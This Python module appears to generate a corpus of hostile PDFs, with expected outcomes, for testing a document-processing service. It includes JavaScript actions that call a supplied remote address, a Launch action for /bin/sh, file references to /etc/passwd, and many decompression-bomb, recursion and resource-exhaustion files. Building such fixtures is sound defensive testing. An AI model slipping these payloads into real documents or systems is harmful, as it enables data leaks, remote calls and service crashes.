"""PDFs that run, refer, recurse, and unfold."""

import zlib

_FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_WORDS = b"BT /F 12 Tf 20 20 Td (words of this page) Tj ET"


def files(address: str) -> dict[str, tuple[bytes, str]]:
    remote = f"http://{address}/"
    squeezed = _WORDS
    for _ in range(60):
        squeezed = zlib.compress(squeezed)
    actions = (
        "/OpenAction<</S/JavaScript/JS(app.launchURL\\('" + remote + "'\\);this.submitForm\\('" + remote + "'\\))>>"
        f"/AA<</WC<</S/Launch/F(/bin/sh)>>/WS<</S/URI/URI({remote})>>>>/AcroForm<</XFA[(a)(<x href='{remote}'/>)]/Fields[]>>"
    )
    return {
        "actions.pdf": (pdf(_WORDS, catalog=actions), "read"),
        "files of others.pdf": (
            pdf(
                _WORDS,
                more=[f"<</Type/Filespec/FS/URL/F({remote})/UF(/etc/passwd)>>"],
                catalog="/Names<</EmbeddedFiles<</Names[(a) 5 0 R]>>>>",
            ),
            "read",
        ),
        "contents elsewhere.pdf": (pdf(_WORDS, stream="/F(/etc/passwd)/FFilter/FlateDecode"), ""),
        "remote contents.pdf": (pdf(_WORDS, stream=f"/F<</FS/URL/F({remote})>>"), ""),
        "a parent that is its child.pdf": (pdf(_WORDS, pages="/Kids[2 0 R 2 0 R]/Count 2"), ""),
        "the same page.pdf": (pdf(_WORDS, pages=f"/Kids[{'3 0 R ' * 6_000}]/Count 6000"), ""),
        "a count that lies.pdf": (pdf(_WORDS, pages="/Kids[3 0 R]/Count 2000000000"), ""),
        "less than no pages.pdf": (pdf(_WORDS, pages="/Kids[3 0 R]/Count -5"), ""),
        "a huge page.pdf": (pdf(_WORDS, box="0 0 1e9 1e9"), ""),
        "a page of no size.pdf": (pdf(_WORDS, box="0 0 0 0"), ""),
        "a page inside out.pdf": (pdf(_WORDS, box="600 800 -600 -800"), ""),
        "a page of no number.pdf": (pdf(_WORDS, box="0 0 NaN 99999999999999999999999999"), ""),
        "a form in itself.pdf": (
            pdf(
                b"/X Do " + _WORDS,
                more=[("<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length 6>>", b"/X Do ")],
                resources="/XObject<</X 5 0 R>>",
            ),
            "",
        ),
        "forms by tens.pdf": (_forms(5), ""),
        "a font in itself.pdf": (
            pdf(
                b"BT /T 12 Tf (aaa) Tj ET " + _WORDS,
                more=[
                    "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>"
                    "/FirstChar 97/LastChar 97/Widths[9]/Resources<</Font<</T 5 0 R>>>>>>",
                    ("<</Length 32>>", b"9 0 d0 BT /T 12 Tf (aaa) Tj ET  "),
                ],
                fonts="/T 5 0 R",
            ),
            "",
        ),
        "a pattern in itself.pdf": (
            pdf(
                b"/Pattern cs /P scn 0 0 600 800 re f " + _WORDS,
                more=[
                    (
                        "<</PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.01/YStep 0.01/Resources<</Pattern<</P 5 0 R>>>>/Length 36>>",
                        b"/Pattern cs /P scn 0 0 600 800 re f ",
                    )
                ],
                resources="/Pattern<</P 5 0 R>>",
            ),
            "",
        ),
        "saved without end.pdf": (pdf(b"q " * 500_000 + _WORDS), ""),
        "squeezed sixty times.pdf": (pdf(squeezed, stream=f"/Filter[{'/FlateDecode' * 60}]"), ""),
        "zeros.pdf": (pdf(zlib.compress(b" " * (48 << 20), 9), stream="/Filter/FlateDecode"), ""),
        "a picture of a gigapixel.pdf": (_picture("/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"), "failed too_large"),
        "a fax without end.pdf": (
            _picture(
                "/Width 14000/Height 14000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 14000/Rows 14000>>"
            ),
            "",
        ),
        "a mask of itself.pdf": (_picture("/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/SMask 5 0 R"), ""),
        "a table that follows itself.pdf": (_xref_loop(), ""),
        "a stream of objects in itself.pdf": (_object_stream(), ""),
        "dictionaries.pdf": (pdf(_WORDS, catalog="/A" + "<</A" * 50_000), ""),
        "arrays.pdf": (pdf(_WORDS, catalog="/A" + "[" * 100_000), ""),
        "numbers.pdf": (pdf(_WORDS, catalog=f"/A {'9' * 1_000_000}"), ""),
        "title.pdf": (pdf(_WORDS, info="/Title(\\376\\377" + "\\000<\\000s\\000>" * 20_000 + ")/CreationDate(D:99999999999999Z)"), "read"),
        "bookmarks in a ring.pdf": (
            pdf(
                _WORDS,
                more=["<</First 6 0 R/Last 6 0 R/Count 1>>", "<</Title(ring)/Next 6 0 R/First 6 0 R/Parent 5 0 R/Dest[3 0 R/Fit]>>"],
                catalog="/Outlines 5 0 R",
            ),
            "read",
        ),
        "encrypted by nobody.pdf": (pdf(_WORDS, trailer="/Encrypt<</Filter/Nobody/V 9/R 9/O()/U()/P 0>>"), ""),
        "only its head.pdf": (b"%PDF-1.7\n", "failed corrupt"),
        "junk before it.pdf": (b"<html>" + b"x" * 900 + pdf(_WORDS), ""),
    }


def endless() -> dict[str, bytes]:
    return {"forms by tens.pdf": _forms(12)}


def pdf(
    content: bytes,
    *,
    catalog: str = "",
    pages: str = "/Kids[3 0 R]/Count 1",
    box: str = "0 0 600 800",
    stream: str = "",
    resources: str = "",
    fonts: str = "",
    info: str = "",
    trailer: str = "",
    more: "list[str | tuple[str, bytes]] | None" = None,
) -> bytes:
    """Objects: 1 catalog, 2 pages, 3 page, 4 contents, and from 5 on `more`."""
    bodies: list[bytes] = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode("latin-1"),
        f"<</Type/Pages{pages}>>".encode(),
        f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R/Resources<</Font<</F {_FONT}{fonts}>>{resources}>>>>".encode(),
        f"<</Length {len(content)}{stream}>>\nstream\n".encode() + content + b"\nendstream",
    ]
    for each in more or []:
        bodies.append(each.encode() if isinstance(each, str) else each[0].encode() + b"\nstream\n" + each[1] + b"\nendstream")
    if info:
        bodies.append(f"<<{info}>>".encode())
        trailer += f"/Info {len(bodies)} 0 R"
    data, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    return (
        data
        + f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n{table}trailer<</Size {len(bodies) + 1}/Root 1 0 R{trailer}>>\nstartxref\n{len(data)}\n%%EOF".encode(
            "latin-1"
        )
    )


def _forms(levels: int) -> bytes:
    """Each shows the next ten times."""
    more: list[str | tuple[str, bytes]] = []
    for number in range(5, 5 + levels):
        shown = b"/X Do " * 10 if number < 4 + levels else b"0 0 1 1 re f "
        more.append(
            (f"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {number + 1} 0 R>>>>/Length {len(shown)}>>", shown)
        )
    return pdf(b"/X Do " + _WORDS, more=more, resources="/XObject<</X 5 0 R>>")


def _picture(described: str) -> bytes:
    return pdf(
        b"600 0 0 800 0 0 cm /X Do",
        more=[(f"<</Type/XObject/Subtype/Image{described}/Length 20>>", b"\x00\xff" * 10)],
        resources="/XObject<</X 5 0 R>>",
    )


def _xref_loop() -> bytes:
    data = pdf(_WORDS)
    start = int(data.rsplit(b"startxref\n", 1)[1].split()[0])
    return pdf(_WORDS, trailer=f"/Prev {start + 6}").replace(b"startxref\n%d" % start, b"startxref\n%d" % start)


def _object_stream() -> bytes:
    return pdf(_WORDS, more=[("<</Type/ObjStm/N 1000000000/First 0/Extends 5 0 R/Length 4>>", b"5 0 ")], catalog="/A 5 0 R")
